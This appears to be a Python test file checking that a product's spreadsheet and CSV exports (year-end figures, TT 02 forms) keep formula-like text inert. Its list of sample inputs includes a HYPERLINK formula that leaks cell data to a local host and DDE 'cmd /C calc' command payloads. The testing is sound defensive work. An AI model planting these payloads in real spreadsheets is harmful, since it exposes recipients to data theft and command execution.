"""Every spreadsheet the product writes keeps a text that looks like a formula as that exact text:
the year-end figures, the TT 02 forms, the importers' templates, and CSV cells."""

from __future__ import annotations

import csv
import dataclasses
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from printing.spreadsheet import FORMULA_PREFIXES, csv_cell, csv_row, put_cell
from printing.tt02 import FormRow, build_0601_xlsx, build_0603_xlsx, sample_0601, sample_0603
from printing.yearend import build_yearend_xlsx

DANGEROUS = [
    '=HYPERLINK("http://127.0.0.1:9/leak?"&B7,"Tiểu khu 1")',
    "+84 912 345 678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells_with(workbook: Any, text: str) -> list[Any]:
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value == text]


def _no_formula(workbook: Any) -> None:
    assert not [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def _read(data: bytes) -> Any:
    return load_workbook(io.BytesIO(data))


def test_every_dangerous_prefix_is_covered() -> None:
    assert {text[0] for text in DANGEROUS} == set(FORMULA_PREFIXES)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_keeps_the_text_as_text_with_the_quote_prefix(text: str) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    put_cell(sheet, 1, 1, text)
    put_cell(sheet, 1, 2, -15)
    put_cell(sheet, 1, 3, "Tiểu khu 1")
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = _read(buffer.getvalue()).active
    assert read["A1"].value == text
    assert read["A1"].data_type == "s"
    assert read["A1"].quotePrefix
    assert read["B1"].value == -15  # a negative number stays a number
    assert read["B1"].data_type == "n"
    assert read["C1"].data_type == "s"
    assert not read["C1"].quotePrefix


@pytest.mark.parametrize("text", DANGEROUS)
def test_the_year_end_spreadsheet_keeps_a_units_name_as_text(text: str) -> None:
    from documents.tests.selectors.test_yearend import synthetic

    figures = dataclasses.replace(synthetic(unit_label=text), council_name=text + " (hội đồng)")
    workbook = _read(build_yearend_xlsx(figures))
    cells = _cells_with(workbook, text)
    assert len(cells) >= 4  # the unit's row in each breakdown
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    assert _cells_with(workbook, text + " (hội đồng)")
    _no_formula(workbook)
    numbers = [cell.value for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.data_type == "n"]
    assert 2900 in numbers


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize(("sample", "build"), [(sample_0601, build_0601_xlsx), (sample_0603, build_0603_xlsx)])
def test_the_tt02_spreadsheets_keep_names_as_text(text: str, sample: Any, build: Any) -> None:
    form = sample()
    rows = (*form.rows, FormRow(label=text + " (dòng)", code="99", cells=(1,) * len(form.columns), unit=text))
    form = dataclasses.replace(form, reporting_unit=text, rows=rows)
    workbook = _read(build(form))
    cells = _cells_with(workbook, text) + _cells_with(workbook, text + " (dòng)")
    assert cells
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)
    _no_formula(workbook)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_csv_cell_starts_with_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row([text, -3, 2.5, "Lê Thị Hường", None]))
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[0] == "'" + text
    assert row[1:4] == ["-3", "2.5", "Lê Thị Hường"]
    assert csv_cell(-3) == -3  # numbers are not texts
